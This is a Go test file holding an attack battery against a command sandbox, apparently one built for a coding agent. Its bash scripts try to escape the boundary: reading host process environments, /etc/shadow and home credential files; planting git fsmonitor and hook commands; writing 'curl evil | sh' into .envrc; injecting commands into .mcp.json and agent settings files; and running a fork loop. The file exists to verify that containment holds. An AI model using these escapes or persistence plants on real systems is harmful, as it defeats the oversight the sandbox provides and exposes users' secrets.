package sandbox

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// The attack battery: each attack is a bash script run as a hostile
// command in read_only and workspace_write, where it must fail, and in
// full_access, the control, where it must succeed (unless the attack
// needs root and the test does not run as root, or the boundary holds in
// every mode). A script prints ESCAPED when its attempt worked; some
// attacks also leave a trace on the host that escaped checks.
//
// The battery runs as whatever user runs the tests; .ci/run runs it as
// root and as an unprivileged user. Set LOGBOOK_ATTACK_TABLE to a file
// name to get the results as a Markdown table, one line per attempt ×
// mode × user.

// control says what the full_access control run of an attack must show.
type control int

const (
	controlEscapes control = iota // the attempt works without a boundary
	controlRoot                   // it works without a boundary, as root only
	controlBlocked                // the protection holds in every mode
	controlSkip                   // not run in full_access: it would harm the host
	controlLimits                 // blocked in full_access too where Result.Limits says it is bounded
)

// attackEnv is what every attack may use.
type attackEnv struct {
	ws      string   // the workspace (inside the boundary, writable in workspace_write)
	out     string   // a host directory outside the workspace, writable by the test's user
	data    string   // a stand-in for the data dir, with a credentials file; Spec.Hidden
	hostPid int      // a host process with attackSecret in its environment
	port    int      // a TCP listener on 127.0.0.1 standing in for the log
	fd      int      // a descriptor this process holds without close-on-exec
	fdFile  string   // the file fd writes to
	ipcKey  string   // a SysV message queue key of the host
	env     []string // added to the command's environment by setup (last wins)
}

const attackSecret = "LB_ATTACK_SECRET=s3cr3t-7f1a"

type attack struct {
	name    string
	control control
	setup   func(t *testing.T, e *attackEnv) // optional: prepare the workspace
	script  string                           // bash; prints ESCAPED on success
	escaped func(e *attackEnv) bool          // optional: a trace on the host
	tty     bool
}

func attacks() []attack {
	gitInit := func(t *testing.T, dir string) {
		t.Helper()
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		if out, err := exec.Command("git", "init", "-q", dir).CombinedOutput(); err != nil {
			t.Fatalf("git init %s: %v: %s", dir, err, out)
		}
	}
	contains := func(p, s string) bool {
		b, err := os.ReadFile(p)
		return err == nil && bytes.Contains(b, []byte(s))
	}
	exists := func(p string) bool { _, err := os.Lstat(p); return err == nil }
	gitConfig := func(t *testing.T, dir, key, value string) {
		t.Helper()
		mustRun(t, "git", "-C", dir, "config", key, value)
	}
	return []attack{
		{name: "capabilities", control: controlRoot,
			script: `grep -q '^CapEff:.*[1-9a-f]' /proc/self/status && echo ESCAPED`},
		{name: "remount / rw", control: controlRoot,
			script: `mount -o remount,rw,bind / 2>/dev/null && echo ESCAPED`},
		{name: "umount /proc", control: controlSkip,
			script: `umount /proc 2>/dev/null && echo ESCAPED; umount -l /proc 2>/dev/null && echo ESCAPED`},
		{name: "nsenter host net ns", control: controlRoot,
			script: `nsenter --net=/proc/$HOST_PID/ns/net true 2>/dev/null && echo ESCAPED`},
		{name: "open host /proc/pid/mem", control: controlEscapes,
			script: `exec 3</proc/$HOST_PID/mem 2>/dev/null && echo ESCAPED`},
		{name: "read host environ", control: controlEscapes,
			script: `grep -qa LB_ATTACK_SECRET /proc/$HOST_PID/environ 2>/dev/null && echo ESCAPED`},
		{name: "see host processes", control: controlEscapes,
			script: `[ -d /proc/$HOST_PID ] && echo ESCAPED`},
		{name: "new user namespace", control: controlEscapes,
			script: `unshare -U true 2>/dev/null && echo ESCAPED`},
		{name: "open /proc/sys/kernel/core_pattern for writing", control: controlRoot,
			script: `(exec 3>>/proc/sys/kernel/core_pattern) 2>/dev/null && echo ESCAPED`},
		{name: "open /sys for writing", control: controlRoot,
			script: `(exec 3>>/sys/kernel/mm/transparent_hugepage/enabled) 2>/dev/null && echo ESCAPED`},
		{name: "write /dev", control: controlRoot,
			script: `echo x > /dev/lb-attack 2>/dev/null && rm -f /dev/lb-attack && echo ESCAPED`},
		{name: "host SysV IPC", control: controlEscapes,
			script: `ipcs -q | grep -q "$IPC_KEY" && echo ESCAPED`},
		{name: "sethostname", control: controlRoot,
			script: `hostname "$(hostname)" 2>/dev/null && echo ESCAPED`},
		{name: "write outside directly", control: controlEscapes,
			script:  `echo x > "$OUT/direct" 2>/dev/null`,
			escaped: func(e *attackEnv) bool { return exists(filepath.Join(e.out, "direct")) }},
		{name: "write outside via ..", control: controlEscapes,
			script:  `echo x > "$WS/../$(basename "$OUT")/dotdot" 2>/dev/null; echo x > "$OUT/../$(basename "$OUT")/dotdot" 2>/dev/null`,
			escaped: func(e *attackEnv) bool { return exists(filepath.Join(e.out, "dotdot")) }},
		{name: "write outside via planted symlink", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				if err := os.Symlink(e.out, filepath.Join(e.ws, "link")); err != nil {
					t.Fatal(err)
				}
			},
			script:  `echo x > link/symlink 2>/dev/null`,
			escaped: func(e *attackEnv) bool { return exists(filepath.Join(e.out, "symlink")) }},
		{name: "write outside via /proc/self/root", control: controlEscapes,
			script:  `echo x > "/proc/self/root$OUT/procroot" 2>/dev/null; echo x > "/proc/1/root$OUT/procroot" 2>/dev/null`,
			escaped: func(e *attackEnv) bool { return exists(filepath.Join(e.out, "procroot")) }},
		{name: "move a file out of the workspace", control: controlEscapes,
			script:  `echo x > f 2>/dev/null; mv f "$OUT/moved" 2>/dev/null`,
			escaped: func(e *attackEnv) bool { return exists(filepath.Join(e.out, "moved")) }},
		{name: "hard link into the outside", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				if err := os.WriteFile(filepath.Join(e.out, "target"), []byte("orig\n"), 0o666); err != nil {
					t.Fatal(err)
				}
			},
			script:  `ln "$OUT/target" hl 2>/dev/null && echo pwned >> hl 2>/dev/null; echo pwned >> "$OUT/target" 2>/dev/null`,
			escaped: func(e *attackEnv) bool { return contains(filepath.Join(e.out, "target"), "pwned") }},
		{name: "write host /tmp", control: controlEscapes,
			script:  `echo x > "/tmp/$(basename "$OUT")-tmp" 2>/dev/null`,
			escaped: func(e *attackEnv) bool { return exists("/tmp/" + filepath.Base(e.out) + "-tmp") }},
		{name: "write host /dev/shm", control: controlEscapes,
			script:  `echo x > "/dev/shm/$(basename "$OUT")-shm" 2>/dev/null`,
			escaped: func(e *attackEnv) bool { return exists("/dev/shm/" + filepath.Base(e.out) + "-shm") }},
		{name: "inherited fd", control: controlBlocked,
			script:  `echo leaked >&$FD 2>/dev/null; echo leaked >> /proc/self/fd/$FD 2>/dev/null; ls /proc/self/fd | grep -qx "$FD" && echo ESCAPED`,
			escaped: func(e *attackEnv) bool { return contains(e.fdFile, "leaked") }},
		{name: "inherited fd (tty)", control: controlBlocked, tty: true,
			script:  `echo leaked >&$FD 2>/dev/null; ls /proc/self/fd | grep -qx "$FD" && echo ESCAPED`,
			escaped: func(e *attackEnv) bool { return contains(e.fdFile, "leaked") }},
		{name: "read the data dir", control: controlEscapes,
			script: `cat "$DATA/creds.json" 2>/dev/null | grep -q password && echo ESCAPED; ls -A "$DATA" 2>/dev/null | grep -q . && echo ESCAPED`},
		{name: "connect to the log on 127.0.0.1", control: controlEscapes,
			script: `(exec 3<>/dev/tcp/127.0.0.1/$PORT) 2>/dev/null && echo ESCAPED`},
		{name: "nested repo core.fsmonitor", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) { gitInit(t, filepath.Join(e.ws, "sub")) },
			script: `git -C sub config core.fsmonitor 'touch /tmp/pwned' 2>/dev/null;
				printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' >> sub/.git/config 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool { return contains(filepath.Join(e.ws, "sub/.git/config"), "fsmonitor") }},
		{name: "nested repo .git replaced", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) { gitInit(t, filepath.Join(e.ws, "sub")) },
			script: `cp -r sub/.git x 2>/dev/null; printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' >> x/config;
				rm -rf sub/.git 2>/dev/null; mv sub/.git sub/.git-old 2>/dev/null; cp -r x/. sub/.git/ 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool {
				return contains(filepath.Join(e.ws, "sub/.git/config"), "fsmonitor") || !exists(filepath.Join(e.ws, "sub/.git/HEAD"))
			}},
		{name: "nested repo swapped by renaming its parent", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) { gitInit(t, filepath.Join(e.ws, "vend")) },
			script: `mv vend vend-old 2>/dev/null && git init -q vend 2>/dev/null &&
				git -C vend config core.fsmonitor 'touch /tmp/pwned' 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool { return contains(filepath.Join(e.ws, "vend/.git/config"), "fsmonitor") }},
		{name: "deep nested repo swapped by renaming an ancestor", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) { gitInit(t, filepath.Join(e.ws, "a/b/vend")) },
			script: `for d in a a/b; do mv $d $d-old 2>/dev/null && break; done; rm -rf a 2>/dev/null;
				mkdir -p a/b 2>/dev/null; git init -q a/b/vend 2>/dev/null &&
				git -C a/b/vend config core.fsmonitor 'touch /tmp/pwned' 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool {
				return contains(filepath.Join(e.ws, "a/b/vend/.git/config"), "fsmonitor")
			}},
		{name: "submodule checkout swapped by renaming it", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				gitInit(t, e.ws)
				gitInit(t, filepath.Join(e.ws, ".git/modules/vend"))
				must(t, os.MkdirAll(filepath.Join(e.ws, "vend"), 0o755))
				must(t, os.WriteFile(filepath.Join(e.ws, "vend/.git"), []byte("gitdir: ../.git/modules/vend\n"), 0o644))
			},
			script: `mv vend vend-old 2>/dev/null || rm -rf vend 2>/dev/null; mkdir -p vend/.git 2>/dev/null;
				printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > vend/.git/config 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool { return contains(filepath.Join(e.ws, "vend/.git/config"), "fsmonitor") }},
		// Paths the repository's git configuration names in the work
		// tree: host git runs what is there.
		{name: "hooks directory core.hooksPath names", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				gitInit(t, e.ws)
				gitConfig(t, e.ws, "core.hooksPath", ".githooks")
				must(t, os.MkdirAll(filepath.Join(e.ws, ".githooks"), 0o755))
			},
			script: `printf '#!/bin/sh\ntouch /tmp/pwned\n' > .githooks/pre-commit 2>/dev/null; chmod +x .githooks/pre-commit 2>/dev/null;
				mv .githooks .githooks-old 2>/dev/null; mkdir -p .githooks 2>/dev/null; echo pwned > .githooks/pre-commit 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool { return exists(filepath.Join(e.ws, ".githooks/pre-commit")) }},
		{name: "missing hooks directory core.hooksPath names", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				gitInit(t, e.ws)
				gitConfig(t, e.ws, "core.hooksPath", "tools/hooks")
				gitInit(t, filepath.Join(e.ws, "sub"))
				gitConfig(t, filepath.Join(e.ws, "sub"), "core.hooksPath", "hooks")
			},
			script: `mkdir -p tools/hooks sub/hooks 2>/dev/null; echo pwned > tools/hooks/pre-commit 2>/dev/null;
				echo pwned > sub/hooks/pre-commit 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool {
				return exists(filepath.Join(e.ws, "tools/hooks/pre-commit")) || exists(filepath.Join(e.ws, "sub/hooks/pre-commit"))
			}},
		{name: "husky's hooks and the scripts they run", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				gitInit(t, e.ws)
				gitConfig(t, e.ws, "core.hooksPath", ".husky/_")
				must(t, os.MkdirAll(filepath.Join(e.ws, ".husky/_"), 0o755))
				must(t, os.WriteFile(filepath.Join(e.ws, ".husky/_/pre-commit"), []byte("#!/bin/sh\n. \"$(dirname \"$0\")/h\"\n"), 0o755))
			},
			script: `echo 'touch /tmp/pwned' > .husky/pre-commit 2>/dev/null; echo 'touch /tmp/pwned' >> .husky/_/pre-commit 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool {
				return exists(filepath.Join(e.ws, ".husky/pre-commit")) || contains(filepath.Join(e.ws, ".husky/_/pre-commit"), "pwned")
			}},
		{name: "programs the git configuration runs from the work tree", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				gitInit(t, e.ws)
				must(t, os.MkdirAll(filepath.Join(e.ws, "tools"), 0o755))
				for _, f := range []string{"fsmon.sh", "clean.sh", "alias.sh", "ssh.sh"} {
					must(t, os.WriteFile(filepath.Join(e.ws, "tools", f), []byte("#!/bin/sh\n"), 0o755))
				}
				gitConfig(t, e.ws, "core.fsmonitor", "./tools/fsmon.sh")
				gitConfig(t, e.ws, "filter.x.clean", "sh tools/clean.sh %f")
				gitConfig(t, e.ws, "alias.up", "!sh -c 'tools/alias.sh && true'")
				gitConfig(t, e.ws, "core.sshCommand", e.ws+"/tools/ssh.sh -v")
				gitConfig(t, e.ws, "diff.x.textconv", "tools/missing.sh")
			},
			script: `for f in fsmon clean alias ssh missing; do echo 'touch /tmp/pwned' >> tools/$f.sh 2>/dev/null; done;
				mv tools tools-old 2>/dev/null; mkdir -p tools; echo pwned > tools/fsmon.sh 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool {
				for _, f := range []string{"fsmon.sh", "clean.sh", "alias.sh", "ssh.sh", "missing.sh"} {
					if contains(filepath.Join(e.ws, "tools", f), "pwned") {
						return true
					}
				}
				return false
			}},
		{name: "a configuration file the repository's config includes", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				gitInit(t, e.ws)
				must(t, os.WriteFile(filepath.Join(e.ws, "shared.gitconfig"), []byte("[user]\n\tname = x\n"), 0o644))
				gitConfig(t, e.ws, "include.path", "../shared.gitconfig")
				gitConfig(t, e.ws, "includeIf.onbranch:main.path", "../local.gitconfig")
			},
			script: `printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' >> shared.gitconfig 2>/dev/null;
				printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > local.gitconfig 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool {
				return contains(filepath.Join(e.ws, "shared.gitconfig"), "fsmonitor") || exists(filepath.Join(e.ws, "local.gitconfig"))
			}},
		{name: "hooks directory a worktree's common config names", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				proj := filepath.Join(e.out, "proj")
				gitInit(t, proj)
				mustRun(t, "git", "-C", proj, "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-q", "--allow-empty", "-m", "x")
				mustRun(t, "git", "-C", proj, "worktree", "add", "-q", "--detach", e.ws)
				gitConfig(t, proj, "core.hooksPath", ".githooks")
				must(t, os.MkdirAll(filepath.Join(e.ws, ".githooks"), 0o755))
			},
			script:  `echo 'touch /tmp/pwned' > .githooks/pre-commit 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool { return exists(filepath.Join(e.ws, ".githooks/pre-commit")) }},
		{name: "hooks directory a nested repository's config names", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				gitInit(t, filepath.Join(e.ws, "a/lib"))
				gitConfig(t, filepath.Join(e.ws, "a/lib"), "core.hooksPath", ".githooks")
				must(t, os.MkdirAll(filepath.Join(e.ws, "a/lib/.githooks"), 0o755))
			},
			script: `echo 'touch /tmp/pwned' > a/lib/.githooks/pre-commit 2>/dev/null; mv a/lib/.githooks a/lib/x 2>/dev/null;
				mv a a-old 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool {
				return exists(filepath.Join(e.ws, "a/lib/.githooks/pre-commit")) || !exists(filepath.Join(e.ws, "a/lib/.githooks"))
			}},
		{name: "read outside through a forged .git file", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				// A git directory's shape, but not the worktree's.
				d := filepath.Join(e.out, "wt")
				must(t, os.MkdirAll(filepath.Join(d, "worktrees/x"), 0o755))
				for _, f := range []string{"HEAD", "creds", "worktrees/x/commondir", "worktrees/x/gitdir"} {
					must(t, os.WriteFile(filepath.Join(d, f), []byte("../..\n"), 0o644))
				}
				must(t, os.MkdirAll(filepath.Join(d, "objects"), 0o755))
				must(t, os.MkdirAll(filepath.Join(d, "refs"), 0o755))
				must(t, os.WriteFile(filepath.Join(e.ws, ".git"), []byte("gitdir: "+filepath.Join(d, "worktrees/x")+"\n"), 0o644))
			},
			script: `cat "$OUT/wt/creds" 2>/dev/null | grep -q . && echo ESCAPED; true`},
		{name: "top-level .git created", control: controlEscapes,
			script:  `mkdir -p .git 2>/dev/null; printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > .git/config 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool { return exists(filepath.Join(e.ws, ".git/config")) }},
		{name: ".claude/settings.json created", control: controlEscapes,
			script:  `mkdir -p .claude 2>/dev/null; echo '{"hooks":{}}' > .claude/settings.json 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool { return exists(filepath.Join(e.ws, ".claude/settings.json")) }},
		{name: ".claude/settings.json rewritten", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				if err := os.MkdirAll(filepath.Join(e.ws, ".claude"), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(e.ws, ".claude/settings.json"), []byte("{}\n"), 0o644); err != nil {
					t.Fatal(err)
				}
			},
			script: `echo '{"hooks":{}}' > .claude/settings.json 2>/dev/null; rm -rf .claude 2>/dev/null;
				mv .claude .claude-old 2>/dev/null; mkdir -p .claude; echo '{"hooks":{}}' > .claude/settings.json 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool { return contains(filepath.Join(e.ws, ".claude/settings.json"), "hooks") }},
		{name: ".mcp.json and .envrc created", control: controlEscapes,
			script: `echo '{}' > .mcp.json 2>/dev/null; echo 'curl evil' > .envrc 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool {
				return contains(filepath.Join(e.ws, ".mcp.json"), "{}") || contains(filepath.Join(e.ws, ".envrc"), "evil")
			}},
		{name: "write through a planted hard link", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				target := filepath.Join(e.out, "target")
				must(t, os.WriteFile(target, []byte("orig\n"), 0o666))
				must(t, os.Link(target, filepath.Join(e.ws, "hl")))
			},
			script:  `echo pwned >> hl 2>/dev/null; printf pwned > hl.new 2>/dev/null && mv -f hl.new hl 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool { return contains(filepath.Join(e.out, "target"), "pwned") }},
		{name: "write through a pnpm store link", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				pnpmTree(t, e.ws, filepath.Join(e.out, "store"), 3, 4)
			},
			script: `for f in node_modules/p1/index.js node_modules/.pnpm/p2@1.0.0/node_modules/p2/lib/f1.js; do
				echo pwned >> "$f" 2>/dev/null; truncate -s0 "$f" 2>/dev/null; done; true`,
			escaped: func(e *attackEnv) bool { return storeTouched(filepath.Join(e.out, "store")) }},
		{name: ".envrc rewritten through a second link", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				must(t, os.WriteFile(filepath.Join(e.ws, ".envrc"), []byte("export A=1\n"), 0o644))
				must(t, os.Link(filepath.Join(e.ws, ".envrc"), filepath.Join(e.ws, "notes.txt")))
			},
			script:  `echo 'curl evil | sh' >> notes.txt 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool { return contains(filepath.Join(e.ws, ".envrc"), "evil") }},
		{name: ".mcp.json rewritten through a nested second link", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				must(t, os.WriteFile(filepath.Join(e.ws, ".mcp.json"), []byte("{}\n"), 0o644))
				must(t, os.MkdirAll(filepath.Join(e.ws, "a/b"), 0o755))
				must(t, os.Link(filepath.Join(e.ws, ".mcp.json"), filepath.Join(e.ws, "a/b/mcp.json")))
			},
			script:  `echo '{"mcpServers":{"x":{"command":"evil"}}}' > a/b/mcp.json 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool { return contains(filepath.Join(e.ws, ".mcp.json"), "evil") }},
		{name: ".claude/settings.json rewritten through a second link", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				must(t, os.MkdirAll(filepath.Join(e.ws, ".claude"), 0o755))
				must(t, os.WriteFile(filepath.Join(e.ws, ".claude/settings.json"), []byte("{}\n"), 0o644))
				must(t, os.Link(filepath.Join(e.ws, ".claude/settings.json"), filepath.Join(e.ws, "settings.json")))
			},
			script:  `echo '{"hooks":{"x":"evil"}}' > settings.json 2>/dev/null; true`,
			escaped: func(e *attackEnv) bool { return contains(filepath.Join(e.ws, ".claude/settings.json"), "evil") }},
		{name: "read credential files in the home", control: controlEscapes,
			setup: func(t *testing.T, e *attackEnv) {
				home := filepath.Join(e.out, "home")
				credentialHome(t, home)
				e.env = append(e.env, "HOME="+home)
			},
			script: `for f in ` + strings.Join(credentialFiles(), " ") + `; do
				grep -qs ` + credentialMark + ` "$HOME/$f" && echo "ESCAPED $f"; done; true`},
		{name: "read /etc/shadow", control: controlRoot,
			script: `grep -qs : /etc/shadow && echo ESCAPED; true`},
		{name: "list another user's home", control: controlRoot,
			script: `ls -A /root 2>/dev/null | grep -q . && echo ESCAPED; true`},
		// A forked child shows as sleep only once it has exec'd it, which
		// a loaded machine delays: the count is taken again for up to 5 s
		// (the sleeps outlive that) before it is believed short.
		{name: "fork loop", control: controlLimits,
			script: `sh -c 'i=0; while [ $i -lt 200 ]; do sleep 30.$$ & i=$((i+1)); done 2>/dev/null
				for t in $(seq 50); do n=$(pgrep -fc "^sleep 30.$$"); [ "$n" -ge 200 ] && break; sleep 0.1; done
				pkill -f "^sleep 30.$$"; [ "$n" -ge 200 ] && echo ESCAPED; true' 2>/dev/null`},
		{name: "fill /tmp", control: controlSkip,
			script: `head -c $((32<<20)) /dev/zero > /tmp/fill 2>/dev/null; [ "$(stat -c %s /tmp/fill)" -ge $((32<<20)) ] && echo ESCAPED`},
		{name: "fill /dev/shm", control: controlSkip,
			script: `head -c $((128<<20)) /dev/zero > /dev/shm/fill 2>/dev/null; [ "$(stat -c %s /dev/shm/fill)" -ge $((128<<20)) ] && echo ESCAPED`},
	}
}

// attackFixtures starts what the attacks aim at on the host and returns
// the parts of attackEnv shared by all of them.
func attackFixtures(t *testing.T) attackEnv {
	t.Helper()
	var e attackEnv
	// A host process with a secret in its environment.
	host := exec.Command("sleep", uniqueSleep())
	host.Env = []string{attackSecret}
	if err := host.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { host.Process.Kill(); host.Wait() })
	e.hostPid = host.Process.Pid

	// The log stand-in.
	e.port = hostListener(t)

	// A descriptor inherited without close-on-exec, as `serve 7>>file` has.
	e.fdFile = filepath.Join(t.TempDir(), "fd-target")
	f, err := os.OpenFile(e.fdFile, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o666)
	if err != nil {
		t.Fatal(err)
	}
	e.fd = 97
	if err := unix.Dup3(int(f.Fd()), e.fd, 0); err != nil {
		t.Fatal(err)
	}
	f.Close()
	t.Cleanup(func() { unix.Close(e.fd) })

	// A host SysV message queue.
	out, err := exec.Command("ipcmk", "-Q").CombinedOutput()
	if err != nil {
		t.Fatalf("ipcmk -Q: %v: %s", err, out)
	}
	id := strings.TrimSpace(string(out[bytes.LastIndexByte(out, ' ')+1:]))
	t.Cleanup(func() { exec.Command("ipcrm", "-q", id).Run() })
	keys, _ := exec.Command("ipcs", "-q").Output()
	for _, line := range strings.Split(string(keys), "\n") {
		if f := strings.Fields(line); len(f) > 1 && f[1] == id {
			e.ipcKey = f[0]
		}
	}
	if e.ipcKey == "" {
		t.Fatalf("message queue %s not in ipcs -q:\n%s", id, keys)
	}
	return e
}

// outsideDir returns a fresh directory outside the workspace and outside
// the boundary's private /tmp, writable by anyone (so the control works
// for an unprivileged user too).
func outsideDir(t *testing.T) string {
	t.Helper()
	d, err := os.MkdirTemp("/var/tmp", "lb-attack-")
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(d, 0o777)
	t.Cleanup(func() {
		os.RemoveAll(d)
		os.Remove("/tmp/" + filepath.Base(d) + "-tmp")
		os.Remove("/dev/shm/" + filepath.Base(d) + "-shm")
	})
	return d
}

// attackTable collects results for LOGBOOK_ATTACK_TABLE.
var attackTable struct {
	sync.Mutex
	rows []string
}

func TestAttack(t *testing.T) {
	requireBwrap(t)
	shared := attackFixtures(t)
	user := "unprivileged"
	if os.Geteuid() == 0 {
		user = "root"
	}
	t.Cleanup(func() {
		path := os.Getenv("LOGBOOK_ATTACK_TABLE")
		if path == "" {
			return
		}
		f, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o666)
		if err != nil {
			t.Error(err)
			return
		}
		defer f.Close()
		attackTable.Lock()
		defer attackTable.Unlock()
		for _, r := range attackTable.rows {
			fmt.Fprintln(f, r)
		}
		attackTable.rows = nil
	})
	for _, a := range attacks() {
		for _, m := range allModes {
			t.Run(a.name+"/"+string(m), func(t *testing.T) {
				t.Parallel()
				want := "blocked"
				switch {
				case m.restricted(), a.control == controlBlocked:
				case a.control == controlSkip:
					t.Skip("not run without a boundary: it would harm the host")
				case a.control == controlRoot && user != "root":
					want = "blocked" // needs privileges the user lacks anyway
				default:
					want = "escaped"
				}
				e := shared
				s := newSpec(t, m, a.tty, "bash", "-c", a.script)
				e.ws, s.Workspace = s.Workspace, ""
				if ws, err := filepath.EvalSymlinks(e.ws); err == nil {
					e.ws = ws
				}
				s.Workspace = e.ws
				e.out = outsideDir(t)
				e.data = filepath.Join(e.out, "data")
				if err := os.Mkdir(e.data, 0o700); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(e.data, "creds.json"), []byte(`{"user":"x","password":"y"}`), 0o600); err != nil {
					t.Fatal(err)
				}
				s.Hidden = []string{e.data}
				s.Limits.TmpBytes = 16 << 20
				s.Limits.Procs = 64
				if a.setup != nil {
					a.setup(t, &e)
				}
				s.Env = append(s.Env, "WS="+e.ws, "OUT="+e.out, "DATA="+e.data, "HOME="+e.ws,
					"HOST_PID="+strconv.Itoa(e.hostPid), "PORT="+strconv.Itoa(e.port),
					"FD="+strconv.Itoa(e.fd), "IPC_KEY="+e.ipcKey, "GIT_CONFIG_NOSYSTEM=1")
				s.Env = append(s.Env, e.env...)
				r := newRecorder("")
				p, err := Start(t.Context(), s, r.emit)
				if err != nil {
					t.Fatalf("Start: %v", err)
				}
				timer := time.AfterFunc(20*time.Second, p.Stop)
				res, err := p.Wait()
				timer.Stop()
				if err != nil {
					t.Fatalf("Wait: %v", err)
				}
				if a.control == controlLimits && !m.restricted() && res.Limits.Procs > 0 {
					want = "blocked"
				}
				got := "blocked"
				outText := r.text(Stdout) + r.text(PTY)
				if strings.Contains(outText, "ESCAPED") || (a.escaped != nil && a.escaped(&e)) {
					got = "escaped"
				}
				attackTable.Lock()
				attackTable.rows = append(attackTable.rows, fmt.Sprintf("| %s | %s | %s | %s |", a.name, m, user, got))
				attackTable.Unlock()
				if got != want {
					t.Errorf("%s in %s as %s: %s, want %s (exit %d, output %q, stderr %q, limits %v)",
						a.name, m, user, got, want, res.ExitCode, outText, r.text(Stderr), res.Limits)
				}
			})
		}
	}
}
